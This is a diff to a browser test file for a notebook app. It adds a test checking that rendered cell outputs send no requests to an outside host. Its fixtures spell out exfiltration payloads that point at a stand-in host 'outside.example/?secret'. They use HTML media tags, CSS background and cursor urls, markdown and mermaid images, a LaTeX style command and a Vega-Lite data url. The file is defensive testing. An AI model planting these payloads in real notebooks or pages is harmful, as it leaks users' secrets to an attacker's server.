@@ -28,6 +28,35 @@ const SHOW = [
   `print('all are shown')`
 ].join('\n');
 
+// Where an output could send what the sandbox lets code read, but not tell anyone.
+const OUTSIDE = 'https://outside.example/?secret';
+const FETCHED = {
+  'text/html': [
+    `<img src="${OUTSIDE}"><video poster="${OUTSIDE}"></video><audio src="${OUTSIDE}"></audio>`,
+    `<p style="background-image: url(${OUTSIDE})">html</p>`,
+    `<p style="cursor: url('${OUTSIDE}'), auto">cursor</p>`
+  ].join(''),
+  'text/markdown': [
+    `![picture](${OUTSIDE})`,
+    '```mermaid\nflowchart TD\n  A@{ img: "' + OUTSIDE + '" }\n```'
+  ].join('\n\n'),
+  'text/latex': `$\\style{cursor: url(${OUTSIDE}), auto}{x}$`,
+  'text/vnd.mermaid': `flowchart TD\n  A@{ img: "${OUTSIDE}" }`,
+  'application/vnd.vegalite.v5+json': {
+    data: { url: OUTSIDE },
+    mark: 'bar',
+    encoding: { x: { field: 'a' } }
+  }
+};
+const SHOW_FETCHED = [
+  'import json',
+  'from IPython.display import display',
+  `forms = json.loads(${JSON.stringify(JSON.stringify(FETCHED))})`,
+  'for form, value in forms.items():',
+  `    display({form: value, 'text/plain': 'plain ' + form}, raw=True)`,
+  `print('all are shown')`
+].join('\n');
+
 async function hurt(lab: Lab): Promise<unknown> {
   // What runs does so once an image was not found.
   await lab.page.waitForTimeout(500);
@@ -76,6 +105,21 @@ test('what a cell of an exploration shows when it is run by hand never runs', as
 
   await expect(notebook.panel).toContainText('all are shown');
   expect(await hurt(lab)).toBeUndefined();
+});
+
+test('the browser fetches nothing for what a cell of an exploration shows', async ({ lab }) => {
+  const { notebook } = lab;
+  const asked: string[] = [];
+  lab.page.on('request', request => asked.push(request.url()));
+  await lab.propose();
+
+  await notebook.runByHand(notebook.cell('read_leaves'), `import tealeaf\n${SHOW_FETCHED}`);
+
+  await expect(notebook.panel).toContainText('all are shown');
+  await expect(notebook.panel).toContainText('plain application/vnd.vegalite.v5+json');
+  await expect(notebook.panel.locator('mjx-container')).toBeVisible();
+  await lab.page.waitForTimeout(1_000);
+  expect(asked.filter(url => url.includes('outside.example'))).toEqual([]);
 });
 
 test('on a kernel of the user’s own the same is trusted, as JupyterLab does it', async ({
